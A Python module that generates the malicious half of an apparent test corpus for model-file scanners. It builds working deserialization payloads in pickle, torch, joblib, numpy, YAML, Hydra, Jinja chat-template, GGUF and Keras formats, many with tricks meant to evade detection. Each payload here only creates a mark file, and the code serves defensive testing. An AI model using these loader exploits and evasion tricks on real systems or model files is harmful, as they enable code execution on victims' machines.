"""The malicious half of the corpus: each payload makes a mark file, and does nothing else."""

from __future__ import annotations

import base64
import bz2
import gzip
import importlib
import io
import json
import lzma
import marshal
import pickle
import shutil
import struct
import subprocess
import tarfile
import tempfile
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

Make = Callable[[Path, Path], None]
Made = tuple[str, str, Make]


def arguments(*values: Any) -> bytes:
    """Return opcodes that put a tuple on the stack."""
    return pickle.dumps(tuple(values), 2)[2:-1]


def call(module: str, name: str, *values: Any) -> bytes:
    """Return a pickle that calls something."""
    return b"\x80\x02" + f"c{module}\n{name}\n".encode() + arguments(*values) + b"R."


def body(pickled: bytes) -> bytes:
    """Return a pickle's opcodes without its first and last."""
    return pickled.removeprefix(b"\x80\x02")[:-1]


class Calls:
    """Pickles as a call."""

    def __init__(self, function: Any, *values: Any) -> None:
        self._parts = function, values

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self._parts


def touch(mark: Path) -> str:
    """Return the command."""
    return f"touch {mark}"


def code(mark: Path) -> str:
    """Return Python that does the same."""
    return f"open({str(mark)!r}, 'w').close()"


def system(mark: Path) -> bytes:
    """Return the plainest payload."""
    return call("os", "system", touch(mark))


# Callables that run something, or make a file, with what they are given.
DIRECT: dict[str, tuple[str, str, Callable[[Path], tuple[Any, ...]]]] = {
    "os.system": ("os", "system", lambda m: (touch(m),)),
    "posix.system": ("posix", "system", lambda m: (touch(m),)),
    "os.popen": ("os", "popen", lambda m: (touch(m),)),
    "os.spawnlp": ("os", "spawnlp", lambda m: (0, "touch", "touch", str(m))),
    "os.spawnvp": ("os", "spawnvp", lambda m: (0, "touch", ["touch", str(m)])),
    "os.posix_spawn": ("os", "posix_spawn", lambda m: ("/usr/bin/touch", ["touch", str(m)], {})),
    "os.mkdir": ("os", "mkdir", lambda m: (str(m),)),
    "os.makedirs": ("os", "makedirs", lambda m: (str(m),)),
    "os.symlink": ("os", "symlink", lambda m: ("/", str(m))),
    "os.mknod": ("os", "mknod", lambda m: (str(m),)),
    "os.mkfifo": ("posix", "mkfifo", lambda m: (str(m),)),
    "subprocess.run": ("subprocess", "run", lambda m: (["touch", str(m)],)),
    "subprocess.call": ("subprocess", "call", lambda m: (["touch", str(m)],)),
    "subprocess.check_output": ("subprocess", "check_output", lambda m: (["touch", str(m)],)),
    "subprocess.getoutput": ("subprocess", "getoutput", lambda m: (touch(m),)),
    "subprocess.Popen": ("subprocess", "Popen", lambda m: (["touch", str(m)],)),
    "builtins.eval": ("builtins", "eval", lambda m: (code(m),)),
    "builtins.exec": ("builtins", "exec", lambda m: (code(m),)),
    "__builtin__.eval": ("__builtin__", "eval", lambda m: (code(m),)),
    "__builtin__.execfile": ("__builtin__", "eval", lambda m: (f"__import__('os').mkdir({str(m)!r})",)),
    "builtins.open": ("builtins", "open", lambda m: (str(m), "w")),
    "io.open": ("io", "open", lambda m: (str(m), "w")),
    "_io.FileIO": ("_io", "FileIO", lambda m: (str(m), "w")),
    "codecs.open": ("codecs", "open", lambda m: (str(m), "w")),
    "gzip.open": ("gzip", "open", lambda m: (str(m), "w")),
    "bz2.open": ("bz2", "open", lambda m: (str(m), "w")),
    "lzma.open": ("lzma", "open", lambda m: (str(m), "w")),
    "zipfile.ZipFile": ("zipfile", "ZipFile", lambda m: (str(m), "w")),
    "tarfile.open": ("tarfile", "open", lambda m: (str(m), "w")),
    "logging.FileHandler": ("logging", "FileHandler", lambda m: (str(m),)),
    "tempfile.mkdtemp": ("tempfile", "mkdtemp", lambda m: ("", str(m).rsplit("/", 1)[1], str(m.parent))),
    "shutil.copyfile": ("shutil", "copyfile", lambda m: ("/etc/hostname", str(m))),
    "shutil.copy": ("shutil", "copy", lambda m: ("/etc/hostname", str(m))),
    "timeit.timeit": ("timeit", "timeit", lambda m: (code(m), "pass", __import__("time").time, 1)),
    "cProfile.run": ("cProfile", "run", lambda m: (code(m),)),
    "profile.run": ("profile", "run", lambda m: (code(m),)),
    "pdb runs nothing asked": ("bdb", "Bdb.run", lambda m: (None, code(m))),
    "runpy._run_code": ("runpy", "_run_code", lambda m: (code(m), {})),
    "pydoc.pipepager": ("pydoc", "pipepager", lambda m: ("", touch(m))),
    "pydoc.tempfilepager": ("pydoc", "tempfilepager", lambda m: ("", f"{touch(m)};true")),
    "platform.popen": ("platform", "os.system", lambda m: (touch(m),)),
    "uuid._get_command_stdout": ("uuid", "_get_command_stdout", lambda m: ("touch", str(m))),
    "pty.spawn": ("pty", "spawn", lambda m: (["touch", str(m)],)),
    "distutils.write_file": ("distutils.file_util", "write_file", lambda m: (str(m), [])),
    "dbm.dumb.open": ("dbm.dumb", "open", lambda m: (str(m)[:-4] if str(m).endswith(".dir") else str(m), "n")),
    "multiprocessing.spawnv": (
        "multiprocessing.util", "spawnv_passfds", lambda m: (b"/usr/bin/touch", [b"touch", str(m).encode()], []),
    ),
    "numpy.save": ("numpy", "save", lambda m: (open_name(m), 1)),
    "numpy.memmap": ("numpy", "memmap", lambda m: (str(m), "u1", "w+", 0, (1,))),
    "numpy.savetxt": ("numpy", "savetxt", lambda m: (str(m), [1])),
    "numpy runstring": ("numpy.testing._private.utils", "runstring", lambda m: (code(m), {})),
    "numpy f2py": ("numpy.f2py.crackfortran", "myeval", lambda m: (f"__import__('os').mkdir({str(m)!r})", {}, {})),
    "torch.save": ("torch", "save", lambda m: (1, str(m))),
    "torch collect_env": ("torch.utils.collect_env", "run", lambda m: (["touch", str(m)],)),
    "torch fx": ("torch.fx.graph_module", "_exec_with_source", lambda m: (code(m), {})),
    "torch load": ("torch.serialization", "os.system", lambda m: (touch(m),)),
    "joblib.dump": ("joblib", "dump", lambda m: (1, str(m))),
    "sympy.sympify": ("sympy", "sympify", lambda m: (f"__import__('os').mkdir({str(m)!r})",)),
    "yaml.unsafe_load": ("yaml", "unsafe_load", lambda m: (f"!!python/object/apply:os.mkdir [{str(m)!r}]",)),
    "pickle.loads": ("pickle", "loads", lambda m: (system(m),)),
    "_pickle.loads": ("_pickle", "loads", lambda m: (system(m),)),
    "cloudpickle.loads": ("cloudpickle", "loads", lambda m: (system(m),)),
    "torch _load_from_bytes": ("torch.storage", "_load_from_bytes", lambda m: (legacy_bytes(m),)),
    "sqlite3.connect": ("sqlite3", "connect", lambda m: (f"file:{m}?mode=rwc", 5.0, 0, None, True)),
    "requests-like urlretrieve": ("urllib.request", "urlretrieve", lambda m: ("file:///etc/hostname", str(m))),
    "fsspec open": ("fsspec", "filesystem", lambda m: ("file",)),
    "pkgutil.resolve_name": ("pkgutil", "os.mkdir", lambda m: (str(m),)),
    "ray cloudpickle": ("ray.cloudpickle", "loads", lambda m: (system(m),)),
    "setuptools exec": ("setuptools.build_meta", "os.mkdir", lambda m: (str(m),)),
    "trace ctypes": ("ctypes.util", "os.mkdir", lambda m: (str(m),)),
    "concurrent": ("concurrent.futures.process", "os.mkdir", lambda m: (str(m),)),
}  # fmt: skip


def open_name(mark: Path) -> Any:
    """Return what numpy.save writes to without adding a suffix: an open file, by a call."""
    return Calls(open, str(mark), "wb")


def legacy_bytes(mark: Path) -> bytes:
    """Return a checkpoint of torch's old format with a payload."""
    import os

    import torch

    buffer = io.BytesIO()
    torch.save(Calls(os.system, touch(mark)), buffer, _use_new_zipfile_serialization=False)
    return buffer.getvalue()


def _string(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value.encode()


# Ways to write the same call.
TRICKS: dict[str, Callable[[Path], bytes]] = {
    "protocol 0": lambda m: f"cos\nsystem\n(V{touch(m)}\ntR.".encode(),
    "instance opcode": lambda m: f"(S'{touch(m)}'\nios\nsystem\n.".encode(),
    "object opcode": lambda m: b"(cos\nsystem\n" + _string(touch(m)) + b"o.",
    "stack global": lambda m: b"\x80\x04\x8c\x02os\x8c\x06system\x93" + _string(touch(m)) + b"\x85R.",
    "stack global by memo": lambda m: b"\x80\x04\x8c\x06system\x94\x8c\x02os\x940h\x01h\x00\x93" + _string(touch(m)) + b"\x85R.",
    "names by protocol 0 memo": lambda m: b"\x80\x04Vos\np7\n0Vsystem\np9\n0g7\ng9\n\x93" + _string(touch(m)) + b"\x85R.",
    "new object": lambda m: b"\x80\x02csubprocess\nPopen\n" + arguments(["touch", str(m)]) + b"\x81" + b"0" + body(system(m)) + b".",
    "dotted name": lambda m: b"\x80\x04\x8c\x08builtins\x8c\x0dexec.__call__\x93" + _string(code(m)) + b"\x85R.",
    "through a module of torch": lambda m: b"\x80\x04\x8c\x13torch.serialization\x8c\x09os.system\x93" + _string(touch(m)) + b"\x85R.",
    "through collections": lambda m: b"\x80\x04\x8c\x0bcollections\x8c\x10_sys.modules.get\x93" + _string("os") + b"\x85R0" + body(system(m)) + b".",
    "getattr": lambda m: b"\x80\x02cbuiltins\ngetattr\ncos\n_wrap_close\n" + _string("__init__") + b"\x86R0" + body(system(m)) + b".",
    "getattr of an import": lambda m: b"\x80\x02cbuiltins\ngetattr\n(cimportlib\nimport_module\n" + arguments("os") + b"R" + _string("system") + b"tR" + arguments(touch(m)) + b"R.",
    "attrgetter": lambda m: b"\x80\x02coperator\nattrgetter\n" + arguments("system") + b"R(cimportlib\nimport_module\n" + arguments("os") + b"RtR" + arguments(touch(m)) + b"R.",
    "methodcaller": lambda m: b"\x80\x02coperator\nmethodcaller\n" + arguments("system", touch(m)) + b"R(cimportlib\nimport_module\n" + arguments("os") + b"RtR.",
    "partial": lambda m: b"\x80\x02cfunctools\npartial\n(cos\nsystem\n" + _string(touch(m)) + b"tR)R.",
    "map": lambda m: b"\x80\x02cbuiltins\nlist\n(cbuiltins\nmap\n(cos\nsystem\n]" + _string(touch(m)) + b"atRtR.",
    "starmap": lambda m: b"\x80\x02cbuiltins\nlist\n(citertools\nstarmap\n(cos\nsystem\n]" + _string(touch(m)) + b"\x85atRtR.",
    "filter": lambda m: b"\x80\x02cbuiltins\nlist\n(cbuiltins\nfilter\n(cos\nsystem\n]" + _string(touch(m)) + b"atRtR.",
    "default factory": lambda m: b"\x80\x02ccollections\ndefaultdict\n(cfunctools\npartial\n(cos\nsystem\n" + _string(touch(m)) + b"tRtR0cfunctools\npartial\n(cos\nsystem\n" + _string(touch(m)) + b"tR)R.",
    "byte code": lambda m: b"\x80\x02ctypes\nFunctionType\n(cmarshal\nloads\n" + arguments(marshal.dumps(compile(code(m), "x", "exec"))) + b"R}tR)R." ,
    "in a key of a dictionary": lambda m: b"\x80\x02}" + body(system(m)) + b"K\x01s.",
    "in a persistent id's stead": lambda m: b"\x80\x02]" + body(system(m)) + b"a.",
    "thousand headers": lambda m: b"\x80\x02" * 1000 + body(system(m)) + b".",
    "unread rest": lambda m: system(m) + b"\0garbage" * 100,
    "padded front": lambda m: b"\x80\x02" + (b"N0" * 50_000) + body(system(m)) + b".",
    "cut after the call": lambda m: system(m)[:-1],
    "invalid after the call": lambda m: system(m)[:-1] + b"\xff\xff",
    "after a large string": lambda m: b"\x80\x03B" + struct.pack("<I", 5 << 20) + bytes(5 << 20) + b"0" + body(system(m)) + b".",
    "state that is called": lambda m: b"\x80\x02ccollections\nOrderedDict\n)R}" + _string("x") + body(system(m)) + b"sb.",
    "memo jumps": lambda m: b"\x80\x02cos\nsystem\nr\x10\x27\x00\x00(" + _string(touch(m)) + b"tR.",
    "copyreg": lambda m: b"\x80\x02ccopyreg\n__newobj__\n(csubprocess\nPopen\n]" + _string("touch") + b"a" + _string(str(m)) + b"atR0" + body(system(m)) + b".",
}  # fmt: skip


def malicious() -> Iterator[Made]:
    """Yield name, loader and maker of every sample."""
    for label, (module, name, values) in DIRECT.items():
        yield f"call {label}.pkl", "pickle", _writes(_calling(module, name, values))
    for label, trick in TRICKS.items():
        yield f"trick {label}.pkl", "pickle", _writes(trick)
    yield from _containers()
    yield from _torch()
    yield from _texts()


def _calling(module: str, name: str, values: Callable[[Path], tuple[Any, ...]]) -> Callable[[Path], bytes]:
    return lambda mark: _direct(module, name, values(mark))


def _direct(module: str, name: str, values: tuple[Any, ...]) -> bytes:
    if "." in name:
        start = b"\x80\x04" + _string(module) + _string(name) + b"\x93"
        return start + arguments(*values) + b"R."
    return call(module, name, *values)


def _writes(content: Callable[[Path], bytes]) -> Make:
    def make(path: Path, mark: Path) -> None:
        path.write_bytes(content(mark))

    return make


def _zip(*members: tuple[str, bytes], packed: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", packed) as archive:
        warnings.simplefilter("ignore")
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def _tar(mode: str, *members: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:  # type: ignore[call-overload]
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _by(module: str, data: bytes) -> bytes:
    return bytes(importlib.import_module(module).compress(data))


def _folder(mark: Path) -> bytes:
    info = tarfile.TarInfo("folder")
    info.type, info.size = tarfile.DIRTYPE, len(system(mark))
    return info.tobuf() + system(mark) + bytes(-info.size % 512) + bytes(1024)


class _Marks:
    def __init__(self, mark: Path) -> None:
        self._mark = mark

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        import os

        return os.system, (touch(self._mark),)


def _before_zip(value: Any) -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save(value, buffer, _use_new_zipfile_serialization=False)
    return buffer.getvalue()


def _array(mark: Path, dtype: str = "|O") -> bytes:
    header = f"{{'descr': '{dtype}', 'fortran_order': False, 'shape': (1,), }}\n".encode()
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + system(mark)


def _numbers() -> bytes:
    import numpy as np

    buffer = io.BytesIO()
    np.save(buffer, np.arange(5))
    return buffer.getvalue()


def _containers() -> Iterator[Made]:
    first = pickle.dumps({"w": [1.0] * 10})
    made: dict[str, tuple[str, Callable[[Path], bytes]]] = {
        "second of two.pkl": ("pickles", lambda m: first + system(m)),
        "after raw bytes.pkl": ("pickle after 777 raw bytes", lambda m: first + bytes(777) + system(m)),
        "protocol 0 after raw bytes.pkl": (
            "pickle after 777 raw bytes",
            lambda m: first + b"\x01" * 777 + f"cos\nsystem\n(V{touch(m)}\ntR.".encode(),
        ),
        "gzip.pkl.gz": ("gzip", lambda m: gzip.compress(system(m))),
        "zstd.pkl.zst": ("zstd", lambda m: _by("zstandard", system(m))),
        "lz4.pkl.lz4": ("lz4", lambda m: _by("lz4.frame", system(m))),
        "behind much padding.pkl": (
            "pickle after 17 MiB", lambda m: first + bytes((17 << 20) - len(first)) + system(m),
        ),
        "bytes of a folder.tar": ("pickle in the second block", _folder),
        "second before 1.6.pt": ("torch twice", lambda m: _before_zip({"w": 1}) + _before_zip(_Marks(m))),
        "two streams.pkl.gz": ("gzip", lambda m: gzip.compress(b"\x80\x02") + gzip.compress(system(m)[2:])),
        "bzip2.pkl.bz2": ("bz2", lambda m: bz2.compress(system(m))),
        "xz.pkl.xz": ("lzma", lambda m: lzma.compress(system(m))),
        "lzma.pkl": ("lzma", lambda m: lzma.compress(system(m), lzma.FORMAT_ALONE)),
        "zlib.z": ("zlib", lambda m: zlib.compress(system(m))),
        "plain.tar": ("tar", lambda m: _tar("w", ("a.txt", system(m)))),
        "packed.tar.gz": ("tar", lambda m: _tar("w:gz", ("weights", system(m)))),
        "packed.tar.bz2": ("tar", lambda m: _tar("w:bz2", ("weights", system(m)))),
        "packed.tar.xz": ("tar", lambda m: _tar("w:xz", ("weights", system(m)))),
        "long name.tar": ("tar", lambda m: _tar("w", ("d/" * 90 + "weights", system(m)))),
        "stored.zip": ("zip", lambda m: _zip(("readme.txt", system(m)))),
        "deflated.zip": ("zip", lambda m: _zip(("x.json", system(m)), packed=zipfile.ZIP_DEFLATED)),
        "bzip2.zip": ("zip", lambda m: _zip(("x", system(m)), packed=zipfile.ZIP_BZIP2)),
        "objects.npy": ("numpy", _array),
        "objects as a picture.png": ("numpy", _array),
        "objects.npz": ("numpy", lambda m: _zip(("a.npy", _array(m)))),
        "objects second.npz": ("numpy", lambda m: _zip(("a.npy", _numbers()), ("b.npy", _array(m)))),
        "second array.npy": ("numpy twice", lambda m: _numbers() + _array(m)),
        "a pickle as numpy.npy": ("numpy", system),
        "named.safetensors": ("pickle", system),
        "named.json": ("pickle", system),
        "named.txt": ("pickle", lambda m: f"cos\nsystem\n(V{touch(m)}\ntR.".encode()),
        "named.onnx": ("pickle", system),
        "named.h5": ("pickle", system),
        "named.gguf": ("pickle", system),
        "named nothing": ("pickle", lambda m: f"cos\nsystem\n(V{touch(m)}\ntR.".encode()),
        "rng_state.pth": ("pickle", system),
        "dcp/.metadata": ("dcp metadata", system),
        "joblib.joblib": ("joblib", system),
        "for the python unpickler.pkl": (
            "python unpickler", lambda m: b"\x80\x02cos\nsystem\n]" + _string(touch(m)) + b"aR.",
        ),
    }  # fmt: skip
    for label, (loader, content) in made.items():
        yield label, loader, _writes(content)
    for kind in ("", "zlib", "gzip", "bz2", "lzma", "xz"):
        yield f"joblib {kind or 'plain'} with arrays.joblib", "joblib", _joblib(kind)
    yield "joblib array of objects.joblib", "joblib", _joblib_objects


def _joblib(kind: str) -> Make:
    def make(path: Path, mark: Path) -> None:
        import os

        import joblib
        import numpy as np

        value = [np.arange(1000.0), {"x": np.eye(3)}, Calls(os.system, touch(mark))]
        joblib.dump(value, path, compress=(kind, 3) if kind else 0)

    return make


def _joblib_objects(path: Path, mark: Path) -> None:
    import os

    import joblib
    import numpy as np

    value = np.empty(1, dtype=object)
    value[0] = Calls(os.system, touch(mark))
    joblib.dump([np.arange(9), value, np.arange(9)], path)


def _saved(mark: Path, **how: Any) -> bytes:
    import os

    import torch

    buffer = io.BytesIO()
    torch.save({"w": torch.arange(9), "p": Calls(os.system, touch(mark))}, buffer, **how)
    return buffer.getvalue()


def _clean() -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save({"w": torch.arange(9)}, buffer)
    return buffer.getvalue()


def _large(mark: Path) -> bytes:
    import os

    import torch

    buffer = io.BytesIO()
    torch.save({"w": torch.zeros(1 << 21), "p": Calls(os.system, touch(mark))}, buffer)
    return buffer.getvalue()


def _again(mark: Path, change: Callable[[list[tuple[str, bytes]]], None], packed: int = 0) -> bytes:
    with zipfile.ZipFile(io.BytesIO(_saved(mark))) as archive:
        members = [(name, archive.read(name)) for name in archive.namelist()]
    change(members)
    return _zip(*members, packed=packed)


def _nothing(members: list[tuple[str, bytes]]) -> None:
    pass


def _doubled(members: list[tuple[str, bytes]]) -> None:
    members.insert(0, ("archive/data.pkl", b"\x80\x02N."))


def _doubled_after(members: list[tuple[str, bytes]]) -> None:
    members.append(("archive/data.pkl", b"\x80\x02N."))


def _other_case(members: list[tuple[str, bytes]]) -> None:
    members[:] = [(name.replace("data.pkl", "DATA.pkl"), data) for name, data in members]


def _flags(mark: Path) -> bytes:
    data = bytearray(_saved(mark))
    at = data.find(b"PK\x01\x02")
    data[at + 8] |= 1  # the directory says that the pickle is encrypted
    return bytes(data)


def _checksum(mark: Path) -> bytes:
    data = bytearray(_saved(mark))
    data[data.find(b"PK\x01\x02") + 16] ^= 0xFF
    return bytes(data)


def _header_name(mark: Path) -> bytes:
    data = bytearray(_saved(mark))
    data[data.find(b"PK\x03\x04") + 30] ^= 1
    return bytes(data)


def _torch() -> Iterator[Made]:
    made: dict[str, tuple[str, Callable[[Path], bytes]]] = {
        "torch.pt": ("torch", _saved),
        "torch legacy.pt": ("torch", lambda m: _saved(m, _use_new_zipfile_serialization=False)),
        "torch protocol 4.pt": ("torch", lambda m: _saved(m, pickle_protocol=4)),
        "torch named.bin": ("torch", _saved),
        "torch named.safetensors": ("torch", _saved),
        "torch large.pt": ("torch", _large),
        "torch rewritten.pt": ("torch", lambda m: _again(m, _nothing)),
        "torch deflated.pt": ("torch", lambda m: _again(m, _nothing, zipfile.ZIP_DEFLATED)),
        "torch doubled before.pt": ("torch", lambda m: _again(m, _doubled)),
        "torch doubled after.pt": ("torch", lambda m: _again(m, _doubled_after)),
        "torch in other case.pt": ("torch", lambda m: _again(m, _other_case)),
        "torch flags.pt": ("torch", _flags),
        "torch checksum.pt": ("torch", _checksum),
        "torch header's name.pt": ("torch", _header_name),
        "torch with a tail.pt": ("torch", lambda m: _saved(m) + b"tail" * 99),
        "torch pickled twice.pkl": ("torch", lambda m: pickle.dumps(1)[:0] + legacy_bytes(m)),
        "torch in a zip.zip": ("zip in zip", lambda m: _zip(("a.pt", _saved(m)))),
        "torch in a zip packed.zip": ("zip in zip", lambda m: _zip(("a", _saved(m)), packed=zipfile.ZIP_DEFLATED)),
        "torch in a tar.tar": ("tar of torch", lambda m: _tar("w", ("a.pt", _saved(m)))),
        "torch in a tar.tar.bz2": ("tar of torch", lambda m: _tar("w:bz2", ("a.pt", _saved(m)))),
        "torch second in a tar.tar.gz": ("tar of torch", lambda m: _tar("w:gz", ("a.pt", _clean()), ("b", _saved(m)))),
    }  # fmt: skip
    for label, (loader, content) in made.items():
        yield label, loader, _writes(content)
    yield "torchscript saves.pt", "torchscript", _script
    yield "torch package.pt", "torch package", _package
    if shutil.which("cc"):
        yield "library in a package.pt2", "dlopen", _library


def _script(path: Path, mark: Path) -> None:
    import torch

    folder = Path(tempfile.mkdtemp())
    source = (
        "import torch\nclass M(torch.nn.Module):\n    def forward(self, x):\n"
        f"        torch.save(x, {str(mark)!r})\n        return x\n"
        f"torch.jit.script(M()).save({str(path)!r})\n"
    )
    (folder / "m.py").write_text(source)
    del torch
    subprocess.run([__import__("sys").executable, folder / "m.py"], check=True, capture_output=True)


def _package(path: Path, mark: Path) -> None:
    source = (
        "import torch\nwith torch.package.PackageExporter(" + repr(str(path)) + ") as p:\n"
        f"    p.save_source_string('evil', {code(mark) + chr(10)!r} + 'class C: pass')\n"
        "    p.save_binary('model', 'model.pkl', b'\\x80\\x02cevil\\nC\\n.')\n"
    )
    subprocess.run([__import__("sys").executable, "-c", source], check=True, capture_output=True)


def _library(path: Path, mark: Path) -> None:
    with tempfile.TemporaryDirectory() as folder:
        source = Path(folder) / "a.c"
        source.write_text(
            "#include <stdio.h>\n__attribute__((constructor)) void f(void)"
            f'{{ FILE *x = fopen("{mark}", "w"); if (x) fclose(x); }}\n'
        )
        subprocess.run(["cc", "-shared", "-fPIC", "-o", f"{folder}/a.so", str(source)], check=True)
        library = (Path(folder) / "a.so").read_bytes()
    path.write_bytes(_zip(("model/archive_format", b"pt2"), ("model/data/aotinductor/model/a.so", library)))


def _texts() -> Iterator[Made]:
    def template(mark: Path) -> str:
        return "{{ cycler.__init__.__globals__.os.mkdir(" + repr(str(mark)) + ") }}"

    def attr(mark: Path) -> str:
        reach = "cycler|attr('_'~'_init_'~'_')|attr('_'~'_globals_'~'_')"
        return "{{ (" + reach + ")['os'].mkdir(" + repr(str(mark)) + ") }}"

    def escaped(mark: Path) -> str:
        return (
            "{{ joiner['\\x5f\\x5finit\\x5f\\x5f']['\\x5f\\x5fglobals\\x5f\\x5f'].os.mkdir("
            + repr(str(mark))
            + ") }}"
        )

    def model(mark: Path) -> dict[str, Any]:
        source = base64.b64encode(
            marshal.dumps(compile(code(mark).replace("open", "__import__('builtins').open"), "x", "exec"))
        )
        function = {
            "class_name": "__lambda__",
            "config": {"code": source.decode(), "defaults": None, "closure": None},
        }
        layer = {
            "class_name": "Lambda",
            "module": "keras.layers",
            "config": {"name": "l", "function": function},
        }
        return {"class_name": "Sequential", "config": {"name": "s", "layers": [layer]}}

    def gguf(mark: Path) -> bytes:
        value = template(mark).encode()
        key = b"tokenizer.chat_template"
        head = b"GGUF" + struct.pack("<IQQ", 3, 0, 1)
        return head + struct.pack("<Q", len(key)) + key + struct.pack("<IQ", 8, len(value)) + value

    def module(mark: Path) -> dict[str, Any]:
        layer = {"class_name": "Popen", "module": "subprocess", "config": {"args": ["touch", str(mark)]}}
        return {"class_name": "Sequential", "config": {"layers": [layer]}}

    made: dict[str, tuple[str, Callable[[Path], str | bytes]]] = {
        "apply.yaml": ("yaml", lambda m: f"lr: 0.1\nx: !!python/object/apply:os.system ['{touch(m)}']\n"),
        "new.yml": ("yaml", lambda m: f"x: !!python/object/new:subprocess.Popen [['touch', '{m}']]\n"),
        "directive.yaml": (
            "yaml", lambda m: f"%TAG !p! tag:yaml.org,2002:python/object/\n---\nx: !p!apply:os.system ['{touch(m)}']\n",
        ),
        "verbatim.yaml": ("yaml", lambda m: f"!<tag:yaml.org,2002:python/object/apply:os.system> ['{touch(m)}']\n"),
        "escaped.yaml": ("yaml", lambda m: f"!!python%2Fobject%2Fapply:os.system ['{touch(m)}']\n"),
        "target.yaml": ("hydra", lambda m: f"_target_: os.system\n_args_: ['{touch(m)}']\n"),
        "target eval.yaml": ("hydra", lambda m: f'_target_: "builtins.exec"\n_args_: ["{code(m)}"]\n'),
        "template.jinja": ("jinja", template),
        "template by attr.jinja": ("jinja", attr),
        "template escaped.jinja": ("jinja", escaped),
        "tokenizer_config.json": ("jinja", lambda m: json.dumps({"chat_template": template(m)})),
        "tokenizer attr/tokenizer_config.json": ("jinja", lambda m: json.dumps({"chat_template": attr(m)})),
        "model.gguf": ("gguf", gguf),
        "lambda.keras": ("keras lambda", lambda m: _zip(("config.json", json.dumps(model(m)).encode()))),
        "lambda.h5": (
            "keras lambda", lambda m: b"\x89HDF\r\n\x1a\n" + bytes(2048) + json.dumps(model(m)).encode() + bytes(99),
        ),
        "module.keras": ("keras module", lambda m: _zip(("config.json", json.dumps(module(m)).encode()))),
    }  # fmt: skip
    for label, (loader, content) in made.items():
        yield label, loader, _text(content)


def _text(content: Callable[[Path], str | bytes]) -> Make:
    def make(path: Path, mark: Path) -> None:
        made = content(mark)
        path.write_bytes(made if isinstance(made, bytes) else made.encode())

    return make
